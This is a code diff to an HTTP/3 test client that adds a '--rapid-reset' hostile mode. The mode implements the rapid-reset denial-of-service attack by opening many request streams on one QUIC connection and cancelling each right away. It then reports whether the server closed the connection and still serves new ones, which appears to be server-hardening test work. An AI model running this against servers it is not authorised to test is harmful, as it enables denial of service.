@@ -102,6 +102,12 @@ Hostile modes
     of the same URL on a fresh connection afterwards (does the server still serve?).
     ``--bomb-wait S`` (default 10) bounds the wait for the reaction (``timeout`` if none).
     Exit 0 when a reaction was seen and the follow-up GET was answered, 1 otherwise.
+``--rapid-reset N``  on one connection, open N request streams (HEADERS and one DATA byte,
+    no end) and reset each from the client side (RESET_STREAM + STOP_SENDING,
+    H3_REQUEST_CANCELLED) right away; then wait up to ``--bomb-wait`` for the server to close
+    the connection. Output ``{"ok", "error", "outcome": "closed"|"open", "error_code",
+    "reason", "streams_reset", "after_status", "after_error", "elapsed_s"}``; exit 0 when the
+    follow-up GET on a fresh connection was answered.
 """
 
 import argparse
@@ -674,6 +680,55 @@ async def qpack_bomb(args):
     return res["ok"], res
 
 
+async def rapid_reset(args):
+    """Opens one connection and N request streams, each reset by the client (RESET_STREAM and
+    STOP_SENDING) right after its HEADERS: the rapid-reset attack. Reports whether the server
+    closed the connection and with which code, and whether a fresh connection is served."""
+    u, host, port, path = parse_target(args.url, args.connect)
+    res = {"ok": False, "error": None, "outcome": None, "error_code": None, "reason": None,
+           "streams_reset": 0, "after_status": None, "after_error": None}
+    cfg = make_config(args, u.hostname)
+    async with connect(host, port, configuration=cfg, create_protocol=Client) as client:
+        quic, h3 = client._quic, client.h3
+        headers = [(b":method", b"POST"), (b":scheme", b"https"), (b":authority", u.netloc.encode()),
+                   (b":path", path.encode()), (b"user-agent", b"tollgate-h3client-reset")]
+        deadline = time.monotonic() + args.bomb_wait
+        for _ in range(args.rapid_reset):
+            if client.terminated is not None:
+                break
+            sid = quic.get_next_available_stream_id()
+            h3.send_headers(stream_id=sid, headers=headers, end_stream=False)
+            quic.send_stream_data(sid, encode_uint_var(FrameType.DATA) + encode_uint_var(1) + b"x")
+            client.transmit()
+            await asyncio.sleep(0.002)
+            quic.reset_stream(sid, 0x10C)  # H3_REQUEST_CANCELLED
+            quic.stop_stream(sid, 0x10C)
+            client.transmit()
+            res["streams_reset"] += 1
+        while client.terminated is None and time.monotonic() < deadline:
+            await client.wait_progress()
+        if client.terminated is not None:
+            res["outcome"] = "closed"
+            res["error_code"], res["reason"] = client.terminated
+        else:
+            res["outcome"] = "open"
+        client.close()
+    sub = argparse.Namespace(**vars(args))
+    sub.count, sub.concurrency, sub.connections = 1, 1, 1
+    sub.migrate = sub.zero_rtt = False
+    sub.data_file = sub.upload_bytes = None
+    sub.method, sub.header, sub.body_out = "GET", [], "none"
+    r = Run(sub)
+    try:
+        await r.run()
+    except Exception as e:  # noqa: BLE001
+        res["after_error"] = repr(e)
+    if r.responses:
+        res["after_status"] = r.responses[0]["status"]
+    res["ok"] = res["after_status"] is not None
+    return res["ok"], res
+
+
 def main():
     p = argparse.ArgumentParser(description=__doc__,
                                 formatter_class=argparse.RawDescriptionHelpFormatter)
@@ -702,6 +757,7 @@ def main():
     p.add_argument("--bomb-fields", type=int, default=1000)
     p.add_argument("--bomb-field-size", type=int, default=8192)
     p.add_argument("--bomb-wait", type=float, default=10.0)
+    p.add_argument("--rapid-reset", type=int, default=0)
     try:
         args = p.parse_args()
     except SystemExit as e:
@@ -726,6 +782,13 @@ def main():
     if args.count < 0 or args.concurrency < 1 or args.connections < 1:
         bad("--count >= 0, --concurrency >= 1, --connections >= 1")
     t0 = time.monotonic()
+    if args.rapid_reset:
+        try:
+            ok, res = asyncio.run(asyncio.wait_for(rapid_reset(args), args.timeout))
+        except Exception as e:  # noqa: BLE001
+            ok, res = False, {"ok": False, "error": repr(e), "outcome": None}
+        res["elapsed_s"] = round(time.monotonic() - t0, 6)
+        emit(ok, res)
     if args.qpack_bomb:
         try:
             ok, res = asyncio.run(asyncio.wait_for(qpack_bomb(args), args.timeout))
